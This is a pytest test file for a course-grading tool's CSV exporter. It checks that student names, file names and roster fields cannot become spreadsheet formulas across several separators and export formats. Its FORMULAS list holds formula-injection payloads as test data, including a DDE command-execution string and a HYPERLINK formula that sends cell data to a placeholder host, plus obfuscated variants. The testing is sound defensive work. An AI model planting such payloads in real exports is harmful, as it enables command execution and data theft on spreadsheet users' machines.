"""No cell of a table is a formula, whichever sign separates the cells where somebody opens it."""

import csv
import io
import re
from pathlib import Path

import pytest
from test_class import RIGHT, hand_in, run
from test_exports import graded, kata, keep

from keraskata.report import spreadsheet

FORMULAS = [
    *("=1+1", "+1+1", "-1-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "  =1", '"=1', "\u200b=1", "＝1", "＋1", "－1a"),
    *("a;=1+1;b", "a\t=1+1\tb", "a,=1+1", "a|=1", 'a";"=1', "a; =1", "a;＝1", "a\n=1", 'x"\n"=1', "a;-1", ";;=1"),
    *('";"=cmd|\' /C calc\'!A0";"', '=HYPERLINK("http://x?"&A1;"a")', "\ufeff=1", "a;\u00ad=1", "+1;=1"),
    *("a\r\n=1", "a;@b", "＠A1"),
]
SIGNS = tuple("=+-@＝＋－＠")


def cells(text: str) -> list[str]:
    """Every cell that a reader of CSV may find, by each of the separators."""
    tables = [csv.reader(io.StringIO(text, newline=""), delimiter=sign) for sign in ",;\t|"]
    return [cell for table in tables for row in table for cell in row]


def safe(text: str) -> bool:
    shown = [re.sub(r'^[\s"\x00-\x1f\xad\u200b\ufeff]+', "", cell) for cell in cells(text)]
    return not [cell for cell in shown if cell.startswith(SIGNS) and not re.fullmatch(r"-?\d+", cell)]


def written(*rows: list[str | int | float]) -> str:
    out = io.StringIO(newline="")
    spreadsheet.write(out, rows)
    return out.getvalue()


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    for row in ([text, 1, "b"], ["a", text, 1], ["a", text, text, "b"], [text]):
        found = written(row)
        assert safe(found), found
        assert all(cell.startswith('"') for cell in found.splitlines()[0].split(",")[:1])


def test_what_is_none_stays_as_it_is() -> None:
    row = ["Liddell, Alice", "1001", "-3", "-2.5", "007", "a@b.c", "a=b", "x-y", "    Points Possible", 7, -2, 0.5, ""]
    assert next(csv.reader(io.StringIO(written(row)))) == [str(cell) for cell in row]
    once = written(["a;=1", "=1"])
    assert written(next(csv.reader(io.StringIO(once)))) == once


@pytest.mark.parametrize("place", ["canvas", "moodle", "nbgrader"])
def test_exports(tmp_path: Path, place: str) -> None:
    for student in ("=1+1", "a;=1+1;b", "＝1", "-1-1"):
        keep(tmp_path, student, graded(1, 2, 3))
    keep(tmp_path, "alice", graded(1, 2, 3))
    assert kata(tmp_path, "export", ".", "--to", place, "--out", "out.csv").returncode == 0
    text = (tmp_path / "out.csv").read_text(encoding="utf-8")
    assert safe(text) and "a;'=1+1;b" in text
    header = {
        "canvas": "Student,ID,SIS User ID,SIS Login ID,Section",
        "moodle": "First name,Username,ID number,Email address,Last name",
        "nbgrader": "first_name,id,x,email,last_name",
    }[place]
    (tmp_path / "roster.csv").write_text(f"{header}\n=1+1,-7,u1,alice,Keras;=1\n" if place == "canvas" else "")
    if place != "canvas":
        (tmp_path / "roster.csv").write_text(f"{header}\n=cmd,alice,-7,a@b.c,L;=1\n")
    ran = kata(tmp_path, "export", ".", "--to", place, "--out", "out.csv", "--roster", "roster.csv")
    assert ran.returncode == 1, ran.stderr
    text = (tmp_path / "out.csv").read_text(encoding="utf-8")
    assert safe(text) and ('"alice"' in text) and (place == "nbgrader" or '"-7"' in text)


def test_the_table_of_a_class(kit: Path) -> None:
    """By the names of folders, and by those of files, which a problem quotes."""
    for student in ("a;=1+1;b", "=1+1", "＝1"):
        hand_in(kit, student, **RIGHT)
        (kit / "class" / student / "s01_words" / "x;=1+1;.ipynb").write_text("")
    assert run(kit, "--no-walls").returncode == 1
    text = (kit / "out/grades.csv").read_text(encoding="utf-8")
    assert safe(text) and "x;'=1+1;.ipynb" in text and '"\'＝1"' in text
